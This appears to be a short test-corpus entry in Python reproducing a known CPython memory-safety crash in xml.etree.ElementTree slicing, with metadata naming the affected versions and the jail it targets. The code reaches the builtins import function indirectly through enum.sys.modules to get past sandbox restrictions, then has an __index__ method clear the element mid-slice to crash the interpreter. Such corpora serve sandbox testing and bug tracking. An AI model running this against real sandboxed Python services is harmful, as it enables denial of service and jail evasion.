# id: elementtree-subscript-index
# family: memory-safety
# kind: crash
# invariant: A
# origin: CPython report gh-143200
# technique: a slice of an element asks its bounds for __index__, which clears the table the slice is then read from
# needs: a jail that lets xml through
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: crash

import enum

load = enum.sys.modules["builtins"].__import__
Element = load("xml.etree.ElementTree", None, None, ["x"]).Element


class Bound:
    def __index__(self):
        top.clear()
        return 0


top = Element("top")
top.extend([Element("a"), Element("b"), Element("c")])
top[Bound():3]
